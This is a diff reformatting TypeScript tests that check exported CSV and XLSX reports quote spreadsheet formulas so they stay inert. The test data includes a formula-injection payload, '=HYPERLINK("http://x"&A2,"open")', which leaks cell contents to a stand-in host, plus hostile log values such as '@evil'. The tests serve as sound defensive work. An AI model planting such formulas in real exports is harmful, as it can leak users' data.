@@ -21,7 +21,11 @@ const startsDangerous = (s: string) => DANGEROUS.some((c) => s.startsWith(c));
 const HYPERLINK = '=HYPERLINK("http://x"&A2,"open")';
 
 describe('spreadsheet text is inert (issue 14)', () => {
-  const text = fc.oneof(fc.string(), fc.string({ unit: 'grapheme' }), fc.tuple(fc.constantFrom(...DANGEROUS, "'", ' '), fc.string()).map(([c, s]) => c + s));
+  const text = fc.oneof(
+    fc.string(),
+    fc.string({ unit: 'grapheme' }),
+    fc.tuple(fc.constantFrom(...DANGEROUS, "'", ' '), fc.string()).map(([c, s]) => c + s),
+  );
 
   test('inertText never starts with a formula character, and taking off the one quote it added gives the input back', () => {
     fc.assert(
@@ -61,8 +65,10 @@ for (const store of STORES) {
     let app: FastifyInstance;
     let now = NOW;
     const at = (hours: number) => new Date(NOW.getTime() + hours * 3_600_000);
-    const post = (s: Session, url: string, payload: Record<string, unknown> = {}) => app.inject({ method: 'POST', url, headers: { cookie: s.cookie, 'x-csrf-token': s.csrf }, payload });
-    const put = (s: Session, url: string, payload: Record<string, unknown>) => app.inject({ method: 'PUT', url, headers: { cookie: s.cookie, 'x-csrf-token': s.csrf }, payload });
+    const post = (s: Session, url: string, payload: Record<string, unknown> = {}) =>
+      app.inject({ method: 'POST', url, headers: { cookie: s.cookie, 'x-csrf-token': s.csrf }, payload });
+    const put = (s: Session, url: string, payload: Record<string, unknown>) =>
+      app.inject({ method: 'PUT', url, headers: { cookie: s.cookie, 'x-csrf-token': s.csrf }, payload });
     const get = (s: Session, url: string) => app.inject({ method: 'GET', url, headers: { cookie: s.cookie } });
 
     before(async () => {
@@ -78,7 +84,12 @@ for (const store of STORES) {
 
     test(`a reason ${HYPERLINK} reaches compliance's CSV as text`, async () => {
       assert.equal((await put(await login(app, USERS.admin), '/api/emergency-support/p-retail', { fields: ['holder_name', 'phone'] })).statusCode, 200);
-      const declared = await post(await login(app, USERS.callCentre), '/api/emergencies', { areas: [{ kind: 'prefecture', prefecture: '宮城県' }], startsAt: at(1).toISOString(), plannedEndAt: at(25).toISOString(), reason: '台風による停電' });
+      const declared = await post(await login(app, USERS.callCentre), '/api/emergencies', {
+        areas: [{ kind: 'prefecture', prefecture: '宮城県' }],
+        startsAt: at(1).toISOString(),
+        plannedEndAt: at(25).toISOString(),
+        reason: '台風による停電',
+      });
       assert.equal(declared.statusCode, 201, declared.body);
       const id = (declared.json() as { id: string }).id;
       assert.equal((await post(await login(app, USERS.serviceCentre), `/api/emergencies/${id}/confirm`)).statusCode, 200);
@@ -115,11 +126,33 @@ describe('the analysis report as XLSX and CSV: text from a legacy export is not 
   /** The legacy dataset plus one more log whose system name and user ID are formulas. */
   function files(): string[] {
     const d = writeDataset(join(dir, 'data'), { seed: 3 });
-    const contracts = readFileSync(d.files.contracts, 'utf8').replace(/^\uFEFF/, '').split('\r\n');
+    const contracts = readFileSync(d.files.contracts, 'utf8')
+      .replace(/^\uFEFF/, '')
+      .split('\r\n');
     const point = contracts[1]?.split(',')[0] ?? assert.fail('no contract');
     const hostile = join(dir, 'hostile.csv');
-    writeFileSync(hostile, `accessed_at,system,user_id,terminal_id,supply_point_id,screen,fields\r\n2022/11/01 10:00,"${HYPERLINK.replace(/"/g, '""')}",@evil,-T1,${point},照会,holder_name\r\n`);
-    return ['analyze', '--affiliate', AFFILIATE, '--from', PERIOD.from, '--to', PERIOD.to, '--staff', d.files.staff, '--terminals', d.files.terminals, '--contracts', d.files.contracts, ...d.files.logs.flatMap((l) => ['--log', l]), '--log', hostile];
+    writeFileSync(
+      hostile,
+      `accessed_at,system,user_id,terminal_id,supply_point_id,screen,fields\r\n2022/11/01 10:00,"${HYPERLINK.replace(/"/g, '""')}",@evil,-T1,${point},照会,holder_name\r\n`,
+    );
+    return [
+      'analyze',
+      '--affiliate',
+      AFFILIATE,
+      '--from',
+      PERIOD.from,
+      '--to',
+      PERIOD.to,
+      '--staff',
+      d.files.staff,
+      '--terminals',
+      d.files.terminals,
+      '--contracts',
+      d.files.contracts,
+      ...d.files.logs.flatMap((l) => ['--log', l]),
+      '--log',
+      hostile,
+    ];
   }
 
   async function run(args: readonly string[]): Promise<number> {
@@ -144,7 +177,10 @@ describe('the analysis report as XLSX and CSV: text from a legacy export is not 
     const summary = sheets.find((s) => s.sheet === '集計')?.data ?? assert.fail('no summary sheet');
     const row = summary.find((r) => r[0] === `'${HYPERLINK}`);
     assert.ok(row !== undefined, 'the system name, quoted');
-    assert.ok(row.slice(1).every((c) => typeof c === 'number'), 'its counts are numbers');
+    assert.ok(
+      row.slice(1).every((c) => typeof c === 'number'),
+      'its counts are numbers',
+    );
   });
 
   test('the CSV of the same report likewise', async () => {
